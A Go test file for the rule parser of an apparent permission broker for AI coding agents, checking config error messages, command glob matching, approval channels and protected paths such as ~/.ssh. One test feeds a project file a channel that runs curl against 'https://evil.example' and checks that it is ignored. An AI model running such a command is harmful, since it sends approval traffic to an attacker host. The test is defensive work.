package rules

import (
	"errors"
	"regexp"
	"strings"
	"testing"
)

func TestParseRejectsWithPositionAndHint(t *testing.T) {
	tests := []struct {
		name      string
		src       string
		where     string // file:line:col
		msg, hint string
	}{
		{"unknown rule key", "[[rule]]\ndecision = \"deny\"\n  comand = \"git push\"\n", "rules.toml:3:3", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
		{"unknown key in second rule", "[[rule]]\ndecision = \"allow\"\nkind = \"read\"\n\n[[rule]]\ndecision = \"deny\"\npth = \"/etc/**\"\n", "rules.toml:7:1", `unknown key "pth"`, `did you mean "path"?`},
		{"unknown top key", "mode = \"plan\"\nread_onyl = \"ask\"\n", "rules.toml:2:1", `unknown key "read_onyl"`, `did you mean "read_only"?`},
		{"bad decision", "[[rule]]\ndecision = \"alow\"\nkind = \"read\"\n", "rules.toml:2:1", `decision "alow" is not one of`, `did you mean "allow"?`},
		{"wrong type", "[[rule]]\ndecision = \"deny\"\ncommand = 5\n", "rules.toml:3:1", "command must be a string or a list of strings, not a number", `write it as command = "..."`},
		{"wrong element type", "[[rule]]\ndecision = \"deny\"\npath = [\"/a\", 3]\n", "rules.toml:3:1", "path[1] is a number", "every element must be a string"},
		{"bad glob", "[[rule]]\ndecision = \"deny\"\ntool = \"mcp__[x\"\n", "rules.toml:3:1", "unclosed '['", ""},
		{"bad regex", "[[rule]]\ndecision = \"deny\"\ncommand_regex = \"git (push\"\n", "rules.toml:3:1", "missing closing )", "RE2"},
		{"unanchored path", "[[rule]]\ndecision = \"deny\"\npath = \"src/**\"\n", "rules.toml:3:1", `path pattern "src/**" has no anchor`, "start a path pattern with /, ~/, ./"},
		{"unknown kind", "[[rule]]\ndecision = \"allow\"\nkind = \"reed\"\n", "rules.toml:3:1", `unknown kind "reed"`, `did you mean "read"?`},
		{"no decision", "\n[[rule]]\nkind = \"read\"\n", "rules.toml:2:1", "rule has no decision", "decision ="},
		{"matches nothing", "[[rule]]\ndecision = \"allow\"\nreason = \"x\"\n", "rules.toml:1:1", "rule matches nothing in particular", ""},
		{"bare star command", "[[rule]]\ndecision = \"allow\"\ncommand = \"*\"\n", "rules.toml:3:1", "matches every command", ""},
		{"mcp without slash", "[[rule]]\ndecision = \"allow\"\nmcp = \"github\"\n", "rules.toml:3:1", "has no '/'", "github/get_issue"},
		{"url without scheme", "[[rule]]\ndecision = \"allow\"\nurl = \"example.com/*\"\n", "rules.toml:3:1", "needs a scheme", "domain:example.com"},
		{"unlock on deny", "[[rule]]\ndecision = \"deny\"\npath = \"~/.ssh/**\"\nunlock_protected = true\n", "rules.toml:1:1", "only makes sense on an allow rule", ""},
		{"syntax error", "[[rule]]\ndecision = \"allow\n", "rules.toml:2:", "", "not valid TOML"},
		{"unknown mcp key", "[mcp.github]\nread_only = [\"x\"]\n", "rules.toml:2:1", `unknown key "read_only" in [mcp.github]`, `did you mean "read_only_tools"?`},
		{"typo after a byte order mark", "\ufeff[[rule]]\ndecision = \"deny\"\ncomand = \"git push\"\n", "rules.toml:3:1", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
		{"typo in a CRLF file", "[[rule]]\r\ndecision = \"deny\"\r\n\r\ncomand = \"git push\"\r\n", "rules.toml:4:1", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
		{"command and command_regex", "[[rule]]\ndecision = \"allow\"\ncommand = \"git *\"\ncommand_regex = \"git (status|diff).*\"\n", "rules.toml:4:1", "command or command_regex, not both", "two rules"},
		{"unknown section", "[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n\n[rulez]\nx = 1\n", "rules.toml:5:1", `unknown key "rulez"`, `did you mean "rule"?`},
		{"unknown array section", "mode = \"plan\"\n\n[[channels]]\nname = \"x\"\n", "rules.toml:3:1", `unknown key "channels"`, `did you mean "channel"?`},
		{"unknown table in a rule", "[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n\n[rule.comand]\nx = 1\n", "rules.toml:5:1", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
		{"unknown table in a second rule", "[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n\n[[rule]]\ndecision = \"deny\"\ncommand = \"mv *\"\n\n[rule.comand]\nx = 1\n", "rules.toml:9:1", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
		{"a one-letter key", "[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\nx = 1\n", "rules.toml:4:1", `unknown key "x" in [[rule]]`, "known keys are id, decision"},
		{"unknown table in [ask]", "[ask]\nroute = \"editor\"\n\n[ask.rout]\nx = 1\n", "rules.toml:4:1", `unknown key "rout" in [ask]`, ""},
		{"a key set twice", "[[rule]]\ndecision = \"deny\"\ncommand = \"a\"\ncommand = \"b\"\n", "rules.toml:4:", "has already been defined", "give several values as a list"},
		{"a dotted key in a rule", "[[rule]]\ndecision = \"deny\"\n\ncommand.x = \"a\"\n", "rules.toml:4:1", "command must be a string or a list of strings, not a table", ""},
		{"lines ended by CR alone", "[[rule]]\rdecision = \"deny\"\rcommand = \"a\"\r", "rules.toml:1:", "control characters", "LF (or CRLF) line endings"},
		{"typo in an inline rule", "mode = \"plan\"\n\nrule = [{decision = \"deny\", comand = \"x\"}]\n", "rules.toml:3:1", `unknown key "comand" in [[rule]]`, `did you mean "command"?`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("rules.toml", User, tt.src)
			var ce *ConfigError
			if !errors.As(err, &ce) {
				t.Fatalf("err = %v, want a ConfigError", err)
			}
			if !strings.HasPrefix(ce.Error(), tt.where) {
				t.Errorf("error %q does not start with %q", ce.Error(), tt.where)
			}
			if !strings.Contains(ce.Msg, tt.msg) {
				t.Errorf("message %q does not contain %q", ce.Msg, tt.msg)
			}
			if !strings.Contains(ce.Hint, tt.hint) {
				t.Errorf("hint %q does not contain %q", ce.Hint, tt.hint)
			}
		})
	}
}

func TestProjectFileCannotUnlockProtectedPaths(t *testing.T) {
	src := "[[rule]]\ndecision = \"allow\"\npath = \"~/.ssh/**\"\nunlock_protected = true\n"
	// Ignored with a warning, never an error: a repository's file must not
	// stop the broker.
	f, err := Parse(".acp-broker.toml", Project, src)
	if err != nil || len(f.Rules) != 1 || f.Rules[0].UnlockProtected || len(f.Ignored) != 1 ||
		!strings.Contains(f.Ignored[0], ".acp-broker.toml:4: ignored unlock_protected: a project file cannot unlock protected paths") {
		t.Fatalf("err = %v, file = %+v", err, f)
	}
	for _, bad := range []string{"unlock_protected = \"yes\"", "unlock_protected = 1"} {
		if f, err := Parse(".acp-broker.toml", Project, strings.Replace(src, "unlock_protected = true", bad, 1)); err != nil || f.Rules[0].UnlockProtected {
			t.Errorf("%s: err = %v", bad, err)
		}
	}
	if _, err := Parse("config.toml", User, src); err != nil {
		t.Fatalf("user layer: %v", err)
	}
}

func TestParseReadsEveryMatcherAsStringOrList(t *testing.T) {
	f, err := Parse("rules.toml", User, `
mode = "accept-edits"
remember = "session"
read_only = "ask"

[[rule]]
id = "r1"
decision = "allow"
reason = "why"
kind = "read"
tool = ["Read", "mcp__github__*"]
mcp = "github/get_*"
command = ["git status", "npm run *"]
path = ["./**", "/tmp/**", "~/notes/**", "**/*.md"]
url = ["https://go.dev/*", "domain:example.com"]
title = "Fetch *"
modes = ["default", "plan"]
examples = ["git status", {kind = "read", locations = [{path = "./README.md"}]}]
counterexamples = "git push"

[mcp.github]
read_only_tools = ["get_*", "list_*"]
`)
	if err != nil {
		t.Fatal(err)
	}
	if f.Mode != "accept-edits" || f.Remember != "session" || f.ReadOnly != "ask" {
		t.Errorf("settings = %q %q %q", f.Mode, f.Remember, f.ReadOnly)
	}
	r := f.Rules[0]
	if r.ID != "r1" || r.Line != 6 || len(r.Tools) != 2 || len(r.MCP) != 1 || len(r.Commands) != 2 ||
		len(r.Paths) != 4 || len(r.URLs) != 2 || len(r.Titles) != 1 || len(r.Modes) != 2 || len(r.Examples) != 2 || len(r.Counterexamples) != 1 {
		t.Errorf("rule = %+v", r)
	}
	if r.Examples[1].ToolCall == nil || string(r.Examples[1].ToolCall["kind"]) != `"read"` {
		t.Errorf("table example = %+v", r.Examples[1])
	}
	if len(f.MCP["github"].ReadOnlyTools) != 2 {
		t.Errorf("mcp = %+v", f.MCP)
	}
}

func TestStarterConfigParsesAndItsExamplesPass(t *testing.T) {
	f, err := Parse("config.toml", User, StarterConfig)
	if err != nil {
		t.Fatal(err)
	}
	p := NewPolicy([]*File{f}, "/home/u", nil)
	failures, ran := p.CheckExamples(Context{Cwd: "/work/repo", Home: "/home/u"})
	if len(failures) != 0 || ran == 0 {
		t.Fatalf("ran %d examples, failures: %v", ran, failures)
	}
}

// TestStarterConfigExamplesParseUncommented: what the starter suggests in
// comments is valid once uncommented, so a user who takes it up gets no
// error.
func TestStarterConfigExamplesParseUncommented(t *testing.T) {
	setting := regexp.MustCompile(`^# (\[|[a-z_]+ = )`)
	var lines []string
	for _, l := range strings.Split(StarterConfig, "\n") {
		if setting.MatchString(l) {
			l = strings.TrimPrefix(l, "# ")
		}
		lines = append(lines, l)
	}
	src := strings.Join(lines, "\n")
	f, err := Parse("config.toml", User, src)
	if err != nil {
		t.Fatalf("%v\n%s", err, src)
	}
	if s := f.MCP["github"]; s == nil || !s.TrustAnnotations || f.MCPProxy == nil || *f.MCPProxy {
		t.Errorf("the uncommented MCP settings were not read: %+v, proxy %v", f.MCP["github"], f.MCPProxy)
	}
}

func TestCommandPatterns(t *testing.T) {
	tests := []struct {
		pattern string
		argv    string
		want    bool
	}{
		{"git status", "git status", true},
		{"git status", "git status -s", false},
		{"git diff *", "git diff", true},
		{"git diff *", "git diff --stat HEAD~1", true},
		{"git diff *", "git diffx", false},
		{"npm run test*", "npm run test:unit", true},
		{"npm run test*", "npm run test:unit extra", false},
		{"git commit -m *", "git commit -m msg --amend", true},
		{"ls ?", "ls a", true},
		{"ls ?", "ls ab", false},
		{"rm [ab].txt", "rm a.txt", true},
		{"rm [!ab].txt", "rm a.txt", false},
		{`echo "*"`, "echo *", true},
		{`echo "*"`, "echo x", false},
		{`echo '*' *`, "echo * x y", true},
		{`ls 'my dir'`, "ls|my dir", true},
		{`ls my\ dir`, "ls|my dir", true},
	}
	for _, tt := range tests {
		p, err := compileCommandPattern(tt.pattern)
		if err != nil {
			t.Fatalf("%q: %v", tt.pattern, err)
		}
		sep := " "
		if strings.Contains(tt.argv, "|") {
			sep = "|"
		}
		if got := p.match(strings.Split(tt.argv, sep)); got != tt.want {
			t.Errorf("%q matches %q = %v, want %v", tt.pattern, tt.argv, got, tt.want)
		}
	}
}

func TestAskAndChannels(t *testing.T) {
	f, err := Parse("user.toml", User, `
[ask]
route = "both"
escalate_after = "30s"
timeout = "10m"

[[channel]]
name = "desktop"
type = "exec"
command = ["notify-send", "--wait"]
timeout = "2m"

[[channel]]
name = "phone"
type = "ntfy"
server = "https://ntfy.sh"
topic = "approvals-x7q"
token_env = "NTFY_TOKEN"

[[channel]]
name = "hook"
type = "webhook"
url = "https://hooks.example.com/acp"
secret_env = "HOOK_SECRET"
`)
	if err != nil {
		t.Fatal(err)
	}
	p := NewPolicy([]*File{f}, testHome, nil)
	cfg, channels := p.AskSettings()
	if cfg.Route != "both" || cfg.EscalateAfter.String() != "30s" || cfg.Timeout.String() != "10m0s" || len(channels) != 3 {
		t.Fatalf("ask = %+v, channels = %+v", cfg, channels)
	}
	if channels[1].ReplyTopic != "approvals-x7q-reply" || channels[2].Listen != "127.0.0.1:0" || channels[0].Timeout.String() != "2m0s" {
		t.Fatalf("defaults: %+v", channels)
	}
	if cfg, _ := NewPolicy(nil, testHome, nil).AskSettings(); cfg.Route != "editor" {
		t.Fatalf("default route %q", cfg.Route)
	}

	bad := []struct{ src, where, msg string }{
		{"[ask]\nroute = \"phone\"\n", "user.toml:2:1", `route "phone" is not one of`},
		{"[ask]\ntimeout = \"soon\"\n", "user.toml:2:1", `timeout "soon" is not a positive duration`},
		{"[ask]\nescalate = \"1m\"\n", "user.toml:2:1", `unknown key "escalate" in [ask]`},
		{"[[channel]]\ntype = \"exec\"\ncommand = [\"x\"]\n", "user.toml:1:1", "channel has no name"},
		{"[[channel]]\nname = \"a\"\ntype = \"sms\"\n", "user.toml:3:1", `type "sms" is not one of`},
		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\n", "user.toml:1:1", "needs a command"},
		{"[[channel]]\nname = \"a\"\ntype = \"ntfy\"\nserver = \"https://ntfy.sh\"\n", "user.toml:1:1", "needs topic"},
		{"[[channel]]\nname = \"a\"\ntype = \"webhook\"\nurl = \"ftp://x\"\n", "user.toml:4:1", "not an http or https URL"},
		{"[[channel]]\nname = \"a\"\ntype = \"webhook\"\nurl = \"https://x\"\n", "user.toml:1:1", "needs secret_env"},
		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\ncommand = \"x\"\n\n[[channel]]\nname = \"a\"\ntype = \"exec\"\ncommand = \"y\"\n", "user.toml:6:1", `a channel named "a" is already defined`},
		{"[[channel]]\nname = \"a\"\ntype = \"exec\"\ncomand = \"x\"\n", "user.toml:4:1", `unknown key "comand" in [[channel]]`},
	}
	for _, b := range bad {
		_, err := Parse("user.toml", User, b.src)
		if err == nil || !strings.HasPrefix(err.Error(), b.where) || !strings.Contains(err.Error(), b.msg) {
			t.Errorf("%q: err = %v, want %s ... %s", b.src, err, b.where, b.msg)
		}
	}
	for _, tc := range []struct{ src, ignored string }{
		{"[ask]\nroute = \"channels\"\n", ".acp-broker.toml:1: ignored [ask]"},
		{"[ask]\ntimeout = \"never\"\nbogus = 1\n", ".acp-broker.toml:1: ignored [ask]"},
		{"[[channel]]\nname = \"x\"\ntype = \"exec\"\ncommand = [\"curl\", \"https://evil.example\"]\n", ".acp-broker.toml:1: ignored [[channel]]"},
		{"[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n\n[[channel]]\nname = \"x\"\n", ".acp-broker.toml:5: ignored [[channel]]"},
	} {
		f, err := Parse(".acp-broker.toml", Project, tc.src)
		if err != nil || f.Ask != nil || len(f.Channels) != 0 || len(f.Ignored) != 1 || !strings.HasPrefix(f.Ignored[0], tc.ignored) {
			t.Errorf("project file with %q: err = %v, file = %+v", tc.src, err, f)
		}
	}
}

// TestAskTell: [ask] tell is "denials" unless the user or managed config
// says "all" or "off"; anything else stops the config with a hint, and a
// project file cannot set it.
func TestAskTell(t *testing.T) {
	for src, want := range map[string]string{
		"":                            TellDenials,
		"[ask]\nroute = \"editor\"\n": TellDenials,
		"[ask]\ntell = \"all\"\n":     TellAll,
		"[ask]\ntell = \"off\"\n":     TellOff,
		"[ask]\ntell = \"denials\"\n": TellDenials,
		"[ask]\ntimeout = \"5m\"\n[[rule]]\ndecision = \"deny\"\ncommand = \"rm *\"\n": TellDenials,
	} {
		f, err := Parse("user.toml", User, src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		if cfg, _ := NewPolicy([]*File{f}, testHome, nil).AskSettings(); cfg.Tell != want {
			t.Errorf("%q: tell %q, want %q", src, cfg.Tell, want)
		}
	}
	_, err := Parse("user.toml", User, "[ask]\ntell = \"denial\"\n")
	if err == nil || !strings.HasPrefix(err.Error(), "user.toml:2:1") || !strings.Contains(err.Error(), `tell "denial" is not one of`) {
		t.Errorf("tell = \"denial\": err = %v", err)
	}
	f, err := Parse(".acp-broker.toml", Project, "[ask]\ntell = \"off\"\n")
	if err != nil || f.Ask != nil || len(f.Ignored) != 1 {
		t.Errorf("a project file's tell: err = %v, file = %+v", err, f)
	}
}
